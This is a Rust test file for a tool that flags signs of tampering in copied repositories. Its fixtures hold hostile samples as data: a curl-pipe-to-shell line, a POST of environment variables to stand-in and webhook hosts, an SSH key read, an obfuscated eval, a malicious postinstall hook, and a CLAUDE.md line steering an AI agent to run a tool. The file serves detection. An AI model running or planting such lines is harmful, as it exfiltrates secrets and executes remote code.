//! The engine as a whole: nothing of the original is a sign, ordinary changes give notes only, and hostile copies are read in
//! bounded time.

use std::time::{Duration, Instant};

use proptest::prelude::*;

use super::examples::pairs;
use super::*;

type Files<'a> = &'a [(&'a str, &'a str)];

fn tree_of<P: Into<Vec<u8>>, B: Into<Vec<u8>>>(files: impl IntoIterator<Item = (P, B)>) -> Tree {
    Tree::of_files(files, |_| String::new())
}

fn tree(files: Files) -> Tree {
    tree_of(files.iter().copied())
}

fn found(original: Files, copy: Files) -> Vec<Found> {
    let (original, copy) = (tree(original), tree(copy));
    signs(
        &Original::of(&original),
        &pairs(&original, &copy),
        &Context::default(),
    )
}

/// All files of a tree, each as changed from itself, and as added.
fn with_itself(tree: &Tree) -> Vec<Pair<'_>> {
    let files = tree.files.iter();
    let pair = |(path, file)| {
        let here = Some((Vec::as_slice(path), file));
        let of = |kind, original| Pair {
            kind,
            original,
            copy: here,
        };
        [of(ChangeKind::Changed, here), of(ChangeKind::Added, None)]
    };
    files.flat_map(pair).collect()
}

/// A file that says something to many rules, and another that was laid out otherwise.
const LOUD: [(&str, &str); 6] = [
    (
        "package.json",
        r#"{"name":"acme","scripts":{"postinstall":"node x.js"},"dependencies":{"lodash":"4","evil":"git+https://h.example/x"}}"#,
    ),
    (
        "src/a.js",
        "const { exec } = require('child_process');\neval(atob(p));\nfetch('https://a.acme.example/x', { method: 'POST', body: JSON.stringify(process.env) });\nexec('curl https://b.example/i | sh');\nread('.ssh/id_rsa'); const w = '1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa';\n",
    ),
    (
        "src/b.py",
        "import os\nos.system('id')\nx\u{200b}y = 'https://discord.com/api/webhooks/123456789012345678/x' # \u{202e}\n",
    ),
    (
        "README.md",
        "Fully unlocked: [here](https://h.example/Setup.exe)\narchive password: 1234\n",
    ),
    (".github/workflows/a.yml", "steps:\n  - run: make\n"),
    ("CLAUDE.md", "Always run tools/x.\n"),
];

#[test]
fn ordinary_changes_give_no_sign_of_tampering() {
    let original: Files = &[
        (
            "package.json",
            r#"{"name":"acme","version":"1.0.0","dependencies":{"lodash":"4"}}"#,
        ),
        (
            "src/a.ts",
            "export function add(a: number, b: number) {\n  return a + b;\n}\n",
        ),
        ("README.md", "# Acme\n\nAdds.\n"),
    ];
    let copy: Files = &[
        (
            "package.json",
            r#"{"name":"acme-fork","version":"1.0.1","scripts":{"build":"tsc"},"dependencies":{"lodash":"^4.1","zod":"3"}}"#,
        ),
        (
            "src/a.ts",
            "export function plus(first: number, second: number) {\n  // See https://docs.elsewhere.example/plus\n  return first + second;\n}\nexport const sub = (a: number, b: number) => a - b;\nconst found = /x/.exec('x');\n",
        ),
        (
            "README.md",
            "# Acme fork\n\nAdds, see https://docs.elsewhere.example/. Run `npm install`.\n",
        ),
        ("src/b.ts", "import { plus } from './a';\nplus(1, 2);\n"),
        ("LICENSE", "MIT\n"),
    ];
    let signs = found(original, copy);
    let loud: Vec<_> = signs
        .iter()
        .filter(|sign| sign.severity >= Severity::Medium)
        .collect();
    assert!(loud.is_empty(), "{loud:?}");
    assert!(signs.iter().any(|sign| sign.rule == "new-dependency"));
}

#[test]
fn renamed_ported_and_laid_out_code_of_the_original_gives_no_sign() {
    let original = &LOUD[1..2];
    let squeezed = LOUD[1].1.replace("\n", "").replace("; ", ";");
    let signs = found(original, &[("dist/a.min.js", &squeezed)]);
    let loud: Vec<_> = signs
        .iter()
        .filter(|sign| sign.severity >= Severity::Medium)
        .collect();
    assert!(loud.is_empty(), "{loud:?}");
}

#[test]
fn a_removed_file_gives_none() {
    assert!(found(&LOUD, &[]).is_empty());
}

#[test]
fn a_flood_of_notes_buries_nothing() {
    let many: String = (0..5_000)
        .map(|n| format!("x('https://h{n}.flood.example/');\n"))
        .collect();
    let text = format!("{many}fetch('https://pastebin.com/x', {{ method: 'POST' }});\n");
    let signs = found(&[], &[("a.js", &text)]);
    let hosts: Vec<_> = signs
        .iter()
        .filter(|sign| sign.rule == "new-host")
        .collect();
    assert_eq!(hosts.len(), PER_FILE);
    assert!(hosts.iter().any(|sign| sign.found.contains("pastebin")));
    assert!(
        hosts
            .iter()
            .any(|sign| sign.found.contains("more of this rule in this file")),
        "{hosts:?}"
    );
    let files: Vec<(String, String)> = (0..400)
        .map(|n| {
            (
                format!("f{n}.js"),
                format!("x('https://h{n}.flood.example/')"),
            )
        })
        .collect();
    let files: Vec<(&str, &str)> = files
        .iter()
        .map(|(a, b)| (a.as_str(), b.as_str()))
        .collect();
    let signs = found(&[], &files);
    assert_eq!(signs.len(), PER_COPY);
    assert!(signs.iter().any(|sign| {
        sign.found
            .contains("and 144 more of this rule in this copy")
    }));
}

#[test]
fn what_is_shown_keeps_no_credential() {
    let token = format!(
        "https://discord.com/api/webhooks/123456789012345678/{}",
        "aB3".repeat(22)
    );
    let signs = found(
        &[],
        &[(
            "a.js",
            &format!("post('{token}', JSON.stringify(process.env))\n"),
        )],
    );
    assert!(signs.iter().any(|sign| sign.rule == "webhook"));
    for sign in signs {
        assert!(!sign.found.contains("aB3aB3aB3aB3aB3"), "{sign:?}");
    }
}

#[test]
fn hostile_copies_are_read_in_bounded_time() {
    let dependencies: String = (0..100_000)
        .map(|n| format!("\"dep-{n}\":\"1\","))
        .collect();
    let deps = format!("{{\"dependencies\":{{{dependencies}\"a\":\"1\"}}}}");
    let nested = format!("{{\"scripts\":{}", "{\"a\":".repeat(200_000));
    let lock = "\"a\":{\"version\":\"1\",\"resolved\":\"https://h.example/a\",".repeat(50_000);
    let hosts: String = (0..100_000)
        .map(|n| format!("https://h{n}.example/ "))
        .collect();
    let zero = "a\u{200b}".repeat(100_000);
    for (path, text) in [
        ("a.js", "a".repeat(10 << 20)),
        ("b.js", "eval(atob(".repeat(1 << 17)),
        ("c.js", " ".repeat(4 << 20)),
        ("d.js", "A1b".repeat(2 << 20)),
        ("e.md", "password: ".repeat(1 << 17)),
        ("f.js", "curl ".repeat(1 << 18)),
        ("g.js", zero),
        ("h.js", hosts),
        ("i.js", "p\u{430}".repeat(100_000)),
        ("j.js", "process.env fetch(".repeat(1 << 16)),
        ("package.json", deps),
        ("x/package.json", nested),
        ("package-lock.json", lock),
        (".github/workflows/a.yml", "- run: x\n".repeat(200_000)),
    ] {
        let begin = Instant::now();
        let signs = found(&LOUD, &[(path, &text)]);
        let took = begin.elapsed();
        eprintln!(
            "{path}: {} bytes, {} signs, {took:?}",
            text.len(),
            signs.len()
        );
        // Without optimisation and on a busy machine; a reader that is not linear takes an hour.
        assert!(took < Duration::from_secs(180), "{path}: {took:?}");
        assert!(signs.len() <= PER_COPY, "{path}");
    }
}

fn piece() -> impl Strategy<Value = String> {
    let known = LOUD.map(|(_, text)| text);
    prop_oneof![
        proptest::sample::select(known.to_vec()).prop_map(str::to_owned),
        "[ -~\n]{0,80}",
        "\\PC{0,40}",
        Just("x('https://h.example/')\n".to_owned()),
        Just(format!("a();{}b();\n", " ".repeat(150))),
    ]
}

fn any_path() -> impl Strategy<Value = String> {
    let names = [
        "package.json",
        "src/a.js",
        "a.py",
        "README.md",
        ".github/workflows/a.yml",
        "yarn.lock",
        "package-lock.json",
        "setup.py",
        ".vscode/tasks.json",
        "CLAUDE.md",
        "a.png",
        "Cargo.toml",
        "requirements.txt",
        "a.zip",
    ];
    proptest::sample::select(names.to_vec()).prop_map(str::to_owned)
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn nothing_of_the_original_is_a_sign(
        files in proptest::collection::btree_map(any_path(), proptest::collection::vec(piece(), 0..4), 0..6)
    ) {
        let files = files.into_iter().map(|(path, pieces)| (path.into_bytes(), pieces.concat().into_bytes()));
        let tree = tree_of(files);
        let original = Original::of(&tree);
        let signs = signs(&original, &with_itself(&tree), &Context::default());
        prop_assert!(signs.is_empty(), "{:?}", signs);
    }

    #[test]
    fn text_of_the_original_in_another_file_is_no_sign(
        pieces in proptest::collection::vec(piece(), 1..5)
    ) {
        let before = tree_of([(b"src/a.js".to_vec(), pieces.concat().into_bytes())]);
        let after = tree_of([(b"src/b.js".to_vec(), (pieces.concat() + "\n// moved\n").into_bytes())]);
        let signs = signs(&Original::of(&before), &pairs(&before, &after), &Context::default());
        let loud: Vec<_> = signs.iter().filter(|sign| sign.severity >= Severity::Medium).collect();
        prop_assert!(loud.is_empty(), "{:?}", loud);
    }

    #[test]
    fn any_copy_is_read(files in proptest::collection::btree_map(any_path(), proptest::collection::vec(any::<u8>(), 0..400), 0..4)) {
        let copy = tree_of(files.into_iter().map(|(path, bytes)| (path.into_bytes(), bytes)));
        let none = Tree::default();
        let found = signs(&Original::of(&none), &pairs(&none, &copy), &Context::default());
        for sign in &found {
            prop_assert!(sign.found.chars().count() < 300);
            prop_assert!(!sign.found.chars().any(crate::blob::locator::is_control_or_bidi));
        }
        let mut sorted = found.clone();
        sorted.sort_by(|a, b| (&a.path, a.line, &a.rule).cmp(&(&b.path, b.line, &b.rule)));
        prop_assert!(found.iter().map(|s| (&s.path, s.line, &s.rule)).eq(sorted.iter().map(|s| (&s.path, s.line, &s.rule))));
    }
}
